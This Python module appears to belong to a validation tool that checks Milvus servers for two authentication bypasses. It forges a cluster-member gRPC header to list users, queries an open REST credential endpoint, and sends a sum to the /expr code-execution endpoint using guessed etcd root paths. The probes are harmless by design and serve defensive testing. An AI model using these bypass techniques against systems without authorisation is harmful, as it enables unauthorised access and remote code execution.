"""The known ways around the authentication of Milvus, each as one harmless request: names of users, or a sum; no answer is kept.

CVE-2025-64513: on port 19530 a call that claims to come from a member of the cluster is let in as whoever it names. CVE-2026-26190: on
port 9091 the REST interface lets everybody in, and /expr runs code for whoever knows the root path of etcd. OSError where a port does not
answer.
"""

from base64 import b64encode
from collections.abc import Iterator
from contextlib import contextmanager
from typing import Any
from urllib.parse import urlsplit

import grpc
import httpx
from pymilvus.grpc_gen import milvus_pb2, milvus_pb2_grpc  # type: ignore[import-untyped]  # pymilvus ships no types

from validation.clients.login import Login
from validation.clients.milvus_connection import Tls, with_port

METRICS_PORT = 9091
_MEMBER = (("sourceid", b64encode(b"@@milvus-member@@").decode()),)
_ROOT_PATHS = ("by-dev", "milvus")  # Milvus's own default, and a usual choice
_SUM, _TOTAL = "1234 * 5678", "7006652"
_TIMEOUT_S = 5.0
_REFUSED = {grpc.StatusCode.UNAUTHENTICATED, grpc.StatusCode.PERMISSION_DENIED}


@contextmanager
def _channel(uri: str, tls: Tls) -> Iterator[grpc.Channel]:
    address = urlsplit(with_port(uri)).netloc
    if not uri.startswith("https://"):
        with grpc.insecure_channel(address) as channel:
            yield channel
        return
    trusted = grpc.ssl_channel_credentials(tls.ca_file.read_bytes() if tls.ca_file else None)
    named = [("grpc.ssl_target_name_override", tls.server_name)] if tls.server_name else []
    with grpc.secure_channel(address, trusted, options=named) as channel:
        yield channel


def users_listed(uri: str, tls: Tls, login: Login, *, as_member: bool) -> bool:
    """Whether port 19530 lists the users of Milvus."""
    metadata = (*login.metadata(), *(_MEMBER if as_member else ()))
    with _channel(uri, tls) as channel:
        try:
            stub = milvus_pb2_grpc.MilvusServiceStub(channel)
            answer: Any = stub.ListCredUsers(milvus_pb2.ListCredUsersRequest(), metadata=metadata, timeout=_TIMEOUT_S)
        except grpc.RpcError as error:
            if isinstance(error, grpc.Call) and error.code() in _REFUSED:
                return False
            raise OSError(error.details() if isinstance(error, grpc.Call) else error) from error
    return bool(answer.usernames)


def users_listed_by_rest(uri: str, login: Login) -> bool:
    """Whether port 9091 lists the users of Milvus."""
    if login.user and uri.startswith("https://"):
        raise OSError(f"port {METRICS_PORT} has no TLS, and would be sent a password in plain text")
    answer = _get(uri, "/api/v1/credential/users", auth=httpx.BasicAuth(login.user, login.password) if login.user else None)
    return answer.is_success and '"usernames"' in answer.text


def expression_run(uri: str) -> bool:
    """Whether /expr on port 9091 adds up for somebody who only guesses."""
    answers = (_get(uri, "/expr", {"auth": path, "code": _SUM}) for path in _ROOT_PATHS)
    return any(answer.is_success and _TOTAL in answer.text for answer in answers)


def _get(uri: str, path: str, query: dict[str, str] | None = None, auth: httpx.BasicAuth | None = None) -> httpx.Response:
    host = urlsplit(uri).hostname or ""
    url = httpx.URL(scheme="http", host=host, port=METRICS_PORT, path=path, params=query)
    try:
        return httpx.get(url, auth=auth, timeout=_TIMEOUT_S, trust_env=False)
    except httpx.TransportError as error:
        raise OSError(f"port {METRICS_PORT} of {host} does not answer: {error}") from error
